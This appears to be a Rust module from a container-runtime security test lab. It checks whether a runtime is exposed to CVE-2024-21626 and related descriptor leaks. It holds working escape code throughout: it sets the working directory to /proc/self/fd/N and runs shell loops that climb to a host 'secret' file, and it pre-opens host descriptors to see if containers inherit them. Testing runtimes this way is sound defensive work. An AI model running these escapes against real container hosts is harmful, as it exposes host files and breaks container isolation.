//! Class C: descriptors of the runtime or its caller as ways out.

use std::os::unix::fs::symlink;

use serde_json::json;

use crate::lab::{Bundle, Lab, SECRET, Verdict};
use crate::{Attack, attack};

pub(crate) const ATTACKS: &[Attack] = &[
    attack('C', "working directory /proc/self/fd/N", "CVE-2024-21626", Some("cwd"), create_directory),
    attack('C', "working directory of an exec /proc/self/fd/N", "CVE-2024-21626", Some("cwd"), exec_directory),
    attack('C', "descriptors that the caller left open", "CVE-2024-21626 kin", Some("fds"), inherited),
    attack('C', "descriptors that the caller left open, exec", "CVE-2024-21626 kin", Some("fds"), inherited_exec),
];

/// Highest descriptor that is tried.
const LAST: u32 = 16;

/// Climbs from the working directory and looks for the host's secret.
fn climb(bundle: &Bundle) -> String {
    let host = bundle.host();
    format!(
        "p=.; n=0; while [ $n -lt 12 ]; do [ -f \"$p{0}/secret\" ] && cat \"$p{0}/secret\"; p=$p/..; n=$((n+1)); done; true",
        host.display()
    )
}

fn create_directory(lab: &Lab) -> Verdict {
    let mut said = String::new();
    for number in 3..=LAST {
        for link in [false, true] {
            let mut bundle = Bundle::new(lab, "");
            bundle.spec["process"]["args"] = json!(["/bin/sh", "-c", climb(&bundle)]);
            let target = format!("/proc/self/fd/{number}");
            if link {
                symlink(&target, bundle.rootfs().join("leak")).expect("make a link");
            }
            bundle.spec["process"]["cwd"] = json!(if link { "/leak" } else { target.as_str() });
            let output = bundle.run();
            if output.text.contains(SECRET) {
                return Verdict::Bites(format!("a file of the host is read through descriptor {number}"));
            }
            said = output.said();
        }
    }
    Verdict::Stopped(said)
}

fn exec_directory(lab: &Lab) -> Verdict {
    let bundle = Bundle::new(lab, "sleep 60");
    if let Err(output) = bundle.start() {
        return Verdict::Skipped(format!("no container: {}", output.said()));
    }
    let mut said = String::new();
    let script = climb(&bundle);
    for number in 3..=LAST {
        let directory = format!("--cwd=/proc/self/fd/{number}");
        let output = bundle.exec(&[&directory, "/bin/sh", "-c", &script]);
        if output.text.contains(SECRET) {
            return Verdict::Bites(format!("a file of the host is read through descriptor {number}"));
        }
        said = output.said();
    }
    Verdict::Stopped(said)
}

/// The descriptors that a program finds open at its start, apart from the standard streams.
const DUMP: &str = "n=3; while [ $n -lt 200 ]; do [ -e /proc/self/fd/$n ] && echo OPEN $n $(readlink /proc/self/fd/$n); \
                    n=$((n+1)); done; true";

/// Has the runtime started with open descriptors of the host.
fn leave_open(bundle: &mut Bundle) {
    let host = bundle.host();
    let script = format!("exec 9<{0} 11<{0}/secret 150<{0}; exec \"$@\"", host.display());
    // dash takes single digits only.
    bundle.wrapper = ["bash", "-c", &script, "bash"].map(str::to_owned).to_vec();
}

fn judge(text: &str) -> Option<String> {
    let open: Vec<&str> = text.lines().filter(|line| line.starts_with("OPEN ")).collect();
    (!open.is_empty()).then(|| format!("the program has {}", open.join(", ").to_lowercase()))
}

fn inherited(lab: &Lab) -> Verdict {
    let mut bundle = Bundle::new(lab, DUMP);
    leave_open(&mut bundle);
    let output = bundle.run();
    if !output.ok() {
        return Verdict::Skipped(output.said());
    }
    Verdict::of(judge(&output.text), "0, 1 and 2 only")
}

fn inherited_exec(lab: &Lab) -> Verdict {
    let mut bundle = Bundle::new(lab, "sleep 60");
    if let Err(output) = bundle.start() {
        return Verdict::Skipped(format!("no container: {}", output.said()));
    }
    leave_open(&mut bundle);
    let output = bundle.exec(&["/bin/sh", "-c", DUMP]);
    if !output.ok() {
        return Verdict::Skipped(output.said());
    }
    Verdict::of(judge(&output.text), "0, 1 and 2 only")
}
